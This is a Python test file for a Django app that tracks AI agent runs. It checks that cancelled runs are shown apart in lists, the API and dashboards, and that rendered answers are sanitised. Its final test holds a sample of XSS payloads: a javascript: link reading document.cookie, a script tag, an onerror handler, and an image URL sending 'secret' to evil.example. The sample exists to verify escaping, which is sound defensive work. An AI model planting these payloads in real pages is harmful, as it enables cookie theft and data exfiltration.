"""A cancelled run is shown as cancelled wherever runs are listed or counted (issue 18
point 6): its state stays the seed's ``failed`` with the failure kind ``cancelled``, while
the runs list, its filter, the API, the run page and both dashboards show it apart, and
the success rate and the failure Pareto leave it out."""

from __future__ import annotations

from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from runs.core import status as run_status
from runs.lifecycle import run_transition
from runs.models import Run
from runs.observability.core.retro import retro_compute
from runs.observability.dashboards.figures import ops_figures, retro_figures
from runs.services import run_cancel, run_create
from tests.conftest import SEEDED
from tests.helpers import FIX

pytestmark = [*SEEDED, pytest.mark.usefixtures("api_key")]  # runs no worker takes


def test_the_shown_status_of_a_cancel_and_of_everything_else():
    assert run_status.shown_status("failed", "cancelled") == "cancelled"
    assert run_status.shown_status("failed", "model_error") == "failed"
    assert run_status.shown_status("completed", "") == "completed"
    assert run_status.SHOWN_STATUSES.index("cancelled") == run_status.STATUSES.index("failed") + 1


def test_the_retrospective_counts_a_cancel_apart_from_the_failures():
    day = date(2026, 12, 1)
    cell = {
        "runs": {"completed": 6, "failed": 4},
        "failures": {"cancelled": 2, "model_error": 2},
    }
    retro = retro_compute(span=[day], daily=[cell], per_agent=[], slugs={})
    assert retro.runs == {"completed": [6], "failed": [2], "cancelled": [2], "rolled_back": [0]}
    assert retro.success_rate == [6 / 8]  # of the runs let finish
    assert [kind for kind, _label, _n in retro.failures] == ["model_error"]
    assert retro.totals["failed"] == 2 and retro.totals["cancelled"] == 2
    assert retro.totals["finished"] == 10 and retro.totals["success_rate"] == 6 / 8


def finished_runs(personas, agent, workspace) -> dict[str, Run]:
    """One run each: completed, failed on a model error, cancelled by its requester."""
    made = {}
    for name in ("completed", "failed", "cancelled"):
        made[name] = run_create(
            agent=agent,
            workspace=workspace,
            requester=personas.operator,
            request=f"{FIX} ({name})",
            dispatch=False,
        )
    for name, reason in (("completed", ""), ("failed", "model call failed: overloaded")):
        run = made[name]
        for to in ("planning", "running", "verifying")[: 3 if name == "completed" else 2]:
            run_transition(run_id=run.pk, to=to)
        run_transition(run_id=run.pk, to=name, failure_reason=reason)
    run_cancel(run=made["cancelled"], user=personas.operator)
    return {name: Run.objects.get(pk=run.pk) for name, run in made.items()}


def test_a_cancelled_run_is_stored_failed_and_shown_cancelled(client, personas, agent, workspace):
    runs = finished_runs(personas, agent, workspace)
    cancelled = runs["cancelled"]
    assert (cancelled.status, cancelled.failure_kind) == ("failed", "cancelled")
    assert cancelled.shown_status == "cancelled"
    # The status change the live pages hear says so too.
    changed = cancelled.events.filter(type="status.changed").last()
    assert changed.payload["to"] == "failed" and changed.payload["shown"] == "cancelled"

    client.force_login(personas.operator)
    listed = client.get(reverse("runs:list")).content.decode()
    assert '<span class="status status-cancelled" title="failed: cancelled">cancelled</span>' in (
        listed
    )
    only = client.get(reverse("runs:list"), {"status": "cancelled"}).content.decode()
    assert "(cancelled)" in only and "(failed)" not in only and "(completed)" not in only
    failed = client.get(reverse("runs:list"), {"status": "failed"}).content.decode()
    assert "(failed)" in failed and "(cancelled)" not in failed
    page = client.get(reverse("runs:detail", args=[cancelled.pk])).content.decode()
    assert '<span id="run-status" class="status status-cancelled">cancelled</span>' in page

    api = APIClient()
    api.force_authenticate(personas.operator)
    body = api.get(f"/api/runs/{cancelled.pk}/").json()
    assert (body["status"], body["shown_status"], body["failure_kind"]) == (
        "failed",
        "cancelled",
        "cancelled",
    )
    listed = api.get("/api/runs/", {"status": "cancelled"}).json()
    rows = listed["results"] if isinstance(listed, dict) else listed
    assert [row["id"] for row in rows] == [str(cancelled.pk)]
    assert api.get("/api/runs/", {"status": "stopped"}).status_code == 400


def test_the_dashboards_count_a_cancel_apart(personas, agent, workspace):
    finished_runs(personas, agent, workspace)
    ops = ops_figures(now=timezone.now())
    assert ops.finished_24h == {"completed": 1, "failed": 1, "cancelled": 1, "rolled_back": 0}
    assert ops.last_hour["error_rate"] == 1 / 2  # the failed of the two let finish
    retro = retro_figures(days=7)
    assert retro.runs["cancelled"][-1] == 1 and retro.runs["failed"][-1] == 1
    assert retro.success_rate[-1] == 1 / 2
    assert "cancelled" not in [kind for kind, _label, _n in retro.failures]


@pytest.mark.parametrize("status", ["cancelled", "failed"])
def test_a_dashboard_link_by_outcome_lists_what_it_counts(
    client, personas, agent, workspace, status
):
    finished_runs(personas, agent, workspace)
    client.force_login(personas.ops)
    html = client.get(reverse("runs:list"), {"status": status}).content.decode()
    assert 'data-total="1"' in html


def test_the_run_page_shows_the_status_as_of_its_last_event(
    client, personas, agent, workspace, monkeypatch
):
    """The run read before the worker's last change (a stale row beside newer events) is
    read again: the page never shows an old status that the live feed would not correct."""
    import runs.views

    run = finished_runs(personas, agent, workspace)["failed"]
    stale = Run.objects.get(pk=run.pk)
    stale.status = "running"  # as a read before the worker's last checkpoint saw it
    monkeypatch.setattr(runs.views, "run_get_for_user", lambda **_kwargs: stale)
    client.force_login(personas.operator)
    page = client.get(reverse("runs:detail", args=[run.pk])).content.decode()
    assert '<span id="run-status" class="status status-failed">failed</span>' in page


def test_timeline_values_are_text_never_python_reprs(client, personas, agent, workspace):
    from runs.events import run_event_append
    from runs.templatetags.events import event_value

    assert event_value(["a.md changed", "b.md deleted"]) == "a.md changed; b.md deleted"
    assert event_value({"paths": ["a.md"], "ok": True, "left": None}) == (
        "left: —, ok: yes, paths: a.md"  # by key, whatever the database kept
    )
    assert event_value("two\n  lines") == "two lines"
    assert event_value("x" * 1000).endswith(">" + "x" * 299 + "…</span>")  # cut at 300
    run = finished_runs(personas, agent, workspace)["failed"]
    run_event_append(
        run_id=run.pk,
        type="approval.invalidated",
        payload={
            "approval": "x",
            "kind": "commit",
            "tool": "commitDraft",
            "reason": "docs/guide.md changed since the request",
            "changes": ["docs/guide.md changed since the request"],
        },
    )
    run_event_append(
        run_id=run.pk, type="something.new", payload={"changes": ["one", "two"], "n": {"a": 1}}
    )
    client.force_login(personas.operator)
    page = client.get(reverse("runs:detail", args=[run.pk])).content.decode()
    assert "commit <code>commitDraft</code> · docs/guide.md changed since the request" in page
    assert "<b>changes</b> one; two" in page and "<b>n</b> a: 1" in page
    assert "[&#x27;" not in page and "{&#x27;" not in page


MALICIOUS_ANSWER = """# Findings

| file | status |
| --- | --- |
| docs/guide.md | fixed |

```python
print("done")
```

[the guide](https://example.com/guide) · [click](javascript:alert(document.cookie)) ·
<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](https://evil.example/p?d=secret)
<a href="javascript:alert(2)">raw</a>
"""


def test_the_answer_is_rendered_as_markdown_and_nothing_in_it_runs(
    client, personas, agent, workspace
):
    from runs.answer_markdown import answer_html

    html = str(answer_html(MALICIOUS_ANSWER))
    assert "<h1>Findings</h1>" in html and "<table>" in html and "<td>fixed</td>" in html
    assert '<code class="language-python">print("done")' in html
    assert '<a href="https://example.com/guide" rel="noopener noreferrer">the guide</a>' in html
    for bad in ("<script", '<a href="javascript', "<img", "evil.example"):
        assert bad not in html, bad  # no tag runs, no link to javascript:, no image fetched
    assert "&lt;script&gt;" in html and "[click](javascript:" in html  # shown as text
    assert answer_html("") is None and answer_html("x" * 200_001) is None

    run = finished_runs(personas, agent, workspace)["completed"]
    run.model_calls.create(turn=1, model="claude-sonnet-4-6", text=MALICIOUS_ANSWER)
    client.force_login(personas.operator)
    page = client.get(reverse("runs:detail", args=[run.pk])).content.decode()
    assert '<div class="markdown" id="run-answer-rendered"><h1>Findings</h1>' in page
    assert '<details id="run-answer-source"><summary>Source</summary>' in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the source, escaped
    assert "<script>alert(1)" not in page
